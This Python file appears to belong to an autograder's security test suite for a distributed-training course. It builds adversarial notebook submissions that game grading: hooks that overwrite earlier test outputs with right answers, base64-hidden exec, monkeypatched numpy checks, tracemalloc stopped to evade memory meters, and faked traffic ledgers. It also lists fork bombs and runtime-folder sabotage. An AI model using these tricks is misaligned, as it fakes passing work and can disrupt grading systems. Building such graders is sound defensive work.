                answers.append({"kind": "returned", "seconds": 0.0, "aliases": [], "args_after": case["args"],
                                "result": _adv_wire.to_plain(function(*_adv_wire.from_plain(case["args"]).values()))})
            except Exception as error:
                answers.append({"kind": "raised", "error": type(error).__name__, "message": str(error),
                                "traceback": "", "seconds": 0.0})
        payload = {"lesson": code, "status": "answered", "answers": answers, "output": ""}
        for display_id in _ADV_IDS:
            _adv_real_display({"%(mime)s": payload, "text/plain": "[answers]"}, raw=True, display_id=display_id,
                              update=True)
        _adv_real_display({"%(mime)s": payload, "text/plain": "[answers]"}, raw=True, display_id="adv-" + code)


get_ipython().events.register("post_run_cell", _adv_rewrite)
"""


def reveal_and_update(slug: str) -> Adversary:
    """Stubs, and hooks (in the first lesson's cell, beside its stub: scratch lines, left out while grading, but
    run here) that give every answers message a display id and, after each cell, send right answers as updates
    of the earlier test cells' displays and as new displays with display ids: every lesson 0, the updates
    refused, the notebook listed."""
    lessons = lessons_of(slug)
    references = "\n\n".join(renamed_reference(slug, lesson.function) for lesson in lessons)
    hooks = REVEAL_AND_UPDATE.replace('"%(mime)s"', f"{MIME_HEAD!r} + {MIME_TAIL!r}")
    first = lessons[0]
    broken, _ = v3_answers(slug)  # grading v2's holes that break the rules, in lessons of their own
    answers = {**broken, first.function: f"{references}\n{hooks}\n\n{stub(first.function)}"}
    notebook = make_submission(slug, answers, default="stub")
    # the hooks stand beside the first lesson's stub: left out while grading, run here (MCT_RUN_BROKEN_CELLS=1)
    assert not costs_its_lesson(slug, first, answers[first.function])
    expected = {lesson.code: Expect(0, (RULES,) if lesson.function in broken else
                                    ("answers refused",), V3_RULES[lesson.code][0] if lesson.function in broken else
                                    "display ids and updates of earlier displays") for lesson in lessons}
    return Adversary("reveal_and_update", slug, notebook, expected, flagged=("answers refused", RULES),
                     description="stubs; hooks that give every answers message a display id and, after each "
                                 "cell, rewrite the earlier test cells' outputs with right answers to the real cases; "
                                 "grading v2's holes that break the rules: " + ", ".join(
                                     f"{find_lesson(f).code} {V3_RULES[find_lesson(f).code][0]}" for f in sorted(broken)))


def _cell_with_reference(slug: str, function: str, body: str, signature: str = "*args, **kwargs") -> str:
    return f"{renamed_reference(slug, function)}\n\n\ndef {function}({signature}):\n{indent(body)}\n"


# lesson code -> (attack, function body, what the verdict says); plain code unless it says RULES
V3_PLAIN = {
    # collectives that compute with np.mean and report the ledger of a cluster of their own (by formula)
    "027": ("np.mean and the ledger of a cluster of its own",
            "results, traffic = _adv_reference_all_reduce_mean(worker_arrays)  # not on `cluster`\n"
            "mean = np.mean(np.stack(worker_arrays), axis=0).astype(worker_arrays[0].dtype)\n"
            "return [mean.copy() for _ in worker_arrays], traffic", "worker_arrays, cluster=None",
            ("sent nothing on the cluster it was given",)),
    # a perfect ledger on the grader's cluster, every worker's result computed from every worker's input
    "028": ("a perfect ledger, results from sum(worker_arrays)",
            "results, traffic = _adv_reference_ring_all_reduce_mean(worker_arrays, cluster)\n"
            "mean = sum(worker_arrays) / len(worker_arrays)\n"
            "return [mean.copy() for _ in worker_arrays], traffic", "worker_arrays, cluster=None",
            ("exactly (bitwise)",)),
    # 029 with np.mean of the shards' gradients and no all-reduce at all
    "029": ("np.mean of the gradients, no all-reduce",
            "shards = shard_dataset_across_workers(X, Y, num_workers)\n"
            "local = [compute_local_gradients(params, X_r, Y_r, len(X), num_workers) for X_r, Y_r in shards]\n"
            "grads = {key: np.mean([g[key] for _, g in local], axis=0) for key in params}\n"
            "loss = float(sum(l for l, _ in local) / num_workers)\n"
            "return [{key: params[key] - learning_rate * grads[key] for key in params} for _ in shards], loss",
            "params, X, Y, num_workers, learning_rate, cluster=None", ("sent nothing on the cluster it was given",)),
    "030": ("a perfect ledger, each bucket averaged with np.mean",
            "averaged, buckets, traffic = _adv_reference_bucket_gradients(worker_grads, bucket_cap_bytes, cluster)\n"
            "mean = {key: np.mean([g[key] for g in worker_grads], axis=0) for key in worker_grads[0]}\n"
            "return [{key: value.copy() for key, value in mean.items()} for _ in worker_grads], buckets, traffic",
            "worker_grads, bucket_cap_bytes, cluster=None", ("exactly (bitwise)",)),
    "034": ("np.concatenate on every worker, the ledger of a cluster of its own",
            "vectors, traffic = _adv_reference_all_gather_param_shards(param_shards)  # not on `cluster`\n"
            "return [np.concatenate(param_shards) for _ in param_shards], traffic", "param_shards, cluster=None",
            ("sent nothing on the cluster it was given",)),
    "035": ("a perfect ledger, the mean gradient from np.mean",
            "n = len(worker_grads)\n"
            "mean = [{key: np.mean([g[key] for g in worker_grads], axis=0) for key in params}] * n\n"
            "return _adv_reference_zero_optimizer_step(params, mean, worker_states, learning_rate, beta1, beta2, eps, "
            "cluster)",
            "params, worker_grads, worker_states, learning_rate, beta1=0.9, beta2=0.999, eps=1e-8, cluster=None",
            ("is wrong in",)),
    # ZeRO ignored (the whole state on every worker), the state cut into shards afterwards to look sharded
    "040": ("ZeRO ignored, the full state cut into shards after the loop",
            "final, history, workers = _adv_reference_full_distributed_training_loop(\n"
            "    params, X, Y, replace(config, zero_stage=0), cluster)\n"
            "if config.zero_stage:\n"
            "    cuts = np.cumsum([0] + [len(c) for c in np.array_split(workers[0]['m'], config.num_workers)])\n"
            "    workers = [{key: value if key == 'parameters' else value[cuts[r]:cuts[r + 1]].copy()\n"
            "                for key, value in worker.items()} for r, worker in enumerate(workers)]\n"
            "return final, history, workers", "params, X, Y, config, cluster=None", None),
    # the memory meter reset through the helper's own measurement, after the whole batch at once
    "014": ("the whole batch at once, then the helper's meter run to reset the peak",
            "from shared.memory import measure_peak_memory\n"
            "result = _adv_reference_grad_accumulation_step(params, X, Y, 1, learning_rate)\n"
            "measure_peak_memory(lambda: None)  # resets tracemalloc's peak, were the grader's meter not banking it\n"
            "split_into_micro_batches(X, Y, num_micro_batches)  # the same refusals\n"
            "return result", "params, X, Y, num_micro_batches, learning_rate", ("allocated",)),
}

# lesson code -> (attack, solution cell); each breaks the rules, so the lesson gets 0 for that
V3_RULES = {
    "003": ("exec of base64-hidden code", "import base64\n"
            "exec(base64.b64decode(b'ZGVmIGxpbmVhcl9mb3J3YXJkKHgsIFcsIGIpOgogICAgcmV0dXJuIHggQCBXICsgYgo='))\n"),
    "004": ("a dunder and getattr trick on numpy", "import numpy as np\n\n"
            "def relu_forward(z):\n    getattr(np, '__di' + 'ct__')['shares_memory'] = lambda a, b: False\n"
            "    return np.maximum(z, 0)\n"),
    "005": ("the mistake catalogue's private correct copy",
            "from shared.mistakes.part1 import _mlp_forward as mlp_forward\n"),
    "006": ("the helper's private function", "from shared.mlp import mse_loss_and_grad as _f\n"
            "mse_loss_and_grad = _f.__wrapped__ if hasattr(_f, '__wrapped__') else _f\n"),
    "011": ("tracemalloc imported", "import tracemalloc\n\n"
            "def split_into_micro_batches(X, Y, num_micro_batches):\n    tracemalloc.stop()\n"
            "    raise NotImplementedError\n"),
    "032": ("views of a full copy, tracemalloc stopped around them", "import tracemalloc\nimport numpy as np\n\n"
            "def partition_optimizer_state(state, num_workers):\n"
            "    tracemalloc.stop()\n"
            "    flat = {k: np.concatenate([a.ravel() for a in state[k].values()]) for k in ('m', 'v')}\n"
            "    shards = [{'step': state['step'], 'm': np.array_split(flat['m'].copy(), num_workers)[r],\n"
            "               'v': np.array_split(flat['v'].copy(), num_workers)[r]} for r in range(num_workers)]\n"
            "    tracemalloc.start()\n    return shards\n"),
}


def v3_answers(slug: str) -> tuple[dict[str, str], dict[str, str]]:
    """({function: solution cell}, ...) of the part's lessons that grading v2's holes target: the attacks
    that break the rules, and those in plain code (graded on their values, traffic or memory)."""
    broken = {lesson.function: V3_RULES[lesson.code][1] for lesson in lessons_of(slug) if lesson.code in V3_RULES}
    plain = {lesson.function: _cell_with_reference(slug, lesson.function, *V3_PLAIN[lesson.code][1:3])
             for lesson in lessons_of(slug) if lesson.code in V3_PLAIN}
    return broken, plain


def with_scratch(slug: str) -> Adversary:
    """An honest student who worked as people do in Jupyter: every kind of scratch cell (help, ?, ??, %timeit,
    %%time, !ls, a plot, show_progress, a print, an import os) outside every lesson and inside the first one."""
    notebook = with_scratch_cells(make_submission(slug, default="reference"), lessons_of(slug)[0].function)
    return Adversary("with-scratch", slug, notebook, full(slug), scratch=True,
                     description="the reference solutions with scratch cells, graded as an instructor grades: "
                                 "full marks, not listed")


def adversaries(slug: str, ctx: Context, first_part: bool, demos: bool = True) -> list[Adversary]:
    """Every adversarial submission of a part: the first landed part gets every kind, each in a
    notebook of its own; a later part its reference, one mixed notebook and its rotating attacks
    (each kind is graded in every part, in fewer notebooks, so that seven parts stay within
    the test budget).  With ``demos``, the reference once more with the course's demonstration
    cells run (that they never change a grade is checked statically for every part by the build:
    ``tools/build.py``'s ``check_demonstrations``)."""
    with_demos = reference(slug, "with-demos")  # the demonstrations run: the same verdicts as without them
    with_demos.demos = True
    with_demos.description = "the reference solutions, graded with the course's demonstration cells run"
    with_demos = [with_demos] if demos else []
    if not first_part:
        return apply_holes([reference(slug), *with_demos, mixed(slug)]
                           + [rotating(slug, kind, ctx) for kind in ROTATION.get(slug, {})])
    found = [reference(slug), *with_demos, stubs(slug), mistakes(slug), wrong_outputs(slug), delegation(slug),
             reveal_and_update(slug)]
    found += [rotating(slug, kind, ctx) for kind in ROTATION.get(slug, {})]
    if first_part:
        found += [hardcoded(slug), tampered_test_cells(slug), endless_loop(slug), stalls(slug), corrupt_notebook(slug), linked_secrets(slug),
                  files_beside(slug), os_exit(slug), flood(slug), config_writer(slug, ctx), runtime_chmod(slug),
                  host_reach(slug, ctx), hostile_markdown(slug), oversized_notebook(slug), deep_notebook(slug),
                  comm_flood(slug), reference(slug, "zz-honest-1"), reference(slug, "zz-honest-2"),
                  fork_bomb(slug), reference(slug, NEIGHBOURS[2])]
        found[-1].neighbour = True
        found.append(with_scratch(slug))
        filler = stubs(slug)
        filler.student, filler.neighbour, filler.may_fail = NEIGHBOURS[0], True, True
        filler.description = "the release, untouched, graded while the fork bomb runs (before the witness)"
        found.append(filler)
    return apply_holes(found)


# --------------------------------------------------------------------------
# Attacks that work today
# --------------------------------------------------------------------------

FIRST = "01_mlp_core"
# Attacks that work today (none: grading v3 closed "kernel-side-checks", a replaced harness reporting the
# inputs unchanged, by the rules for graded code: the notebook cannot import the harness).
HOLES: list[Hole] = []


def apply_holes(found: list[Adversary]) -> list[Adversary]:
    for hole in HOLES:
        matches = [a for a in found if a.student == hole.student and a.slug == hole.slug]
        if not matches:
            continue  # another part's list
        for adversary in matches:
            for code in list(adversary.expected) if hole.codes is None else hole.codes:
                adversary.expected[code] = replace(adversary.expected[code], hole=hole.id)
    return found


KINDS = {
    "reference": "the reference solutions (also zz-honest-1/2, graded right after attackers, and mini-witness)",
    "stubs": "the release, untouched",
    "hardcoded": "answers hard-coded for the visible tests",
    "mistakes": "a plausible wrong answer in every lesson, written out (tests/plausible.py)",
    "wrong_outputs": "NaN, wrong dtype, wrong shape, input changed in place",
    "delegation": "every function delegates to the helper package",
    "tampered_test_cells": "test cells edited, deleted, turned into markdown",
    "endless_loop": "while True: pass",
    "stalls": "sleeps in many cells and a loop that swallows KeyboardInterrupt",
    "corrupt_notebook": "a truncated notebook file",
    "linked_secrets": "links to the reference and the hidden tests beside the notebook",
    "files_beside": "shared/, grading/, numpy.py and a module with a function's name beside the notebook",
    "os_exit": "os._exit(1) in a graded function",
    "flood": "a graded function that prints 100 MB per call",
    "config_writer": "configuration files written everywhere the kernel can name",
    "runtime_chmod": "the grader's runtime folder made unusable",
    "hostile_markdown": "markdown with script in every form (tests/hostile.py): full marks, inert in the formgrader",
    "oversized_notebook": "a notebook past the size a submission may have: refused unread",
    "deep_notebook": "a notebook nested past the depth a submission may have: refused unread",
    "comm_flood": "widget messages and a message split into frames past the grader's limits: kernel stopped",
    "fork_bomb": "fork and memory bombs beside an honest neighbour",
    "attacks*": "one attack per lesson: " + ", ".join(ATTACKS),
    "reveal_and_update": "hooks that rewrite earlier test cells' outputs with display ids and updates; Part 1's "
                         "v2 holes that break the rules (hidden exec, dunder/getattr, private copies)",
    "mixed": "a later part's v2 holes (formula and perfect ledgers, np.mean, meters reset, tracemalloc, ZeRO "
             "ignored), and in turn a plausible wrong answer, a wrong output, a delegation, a stub",
}
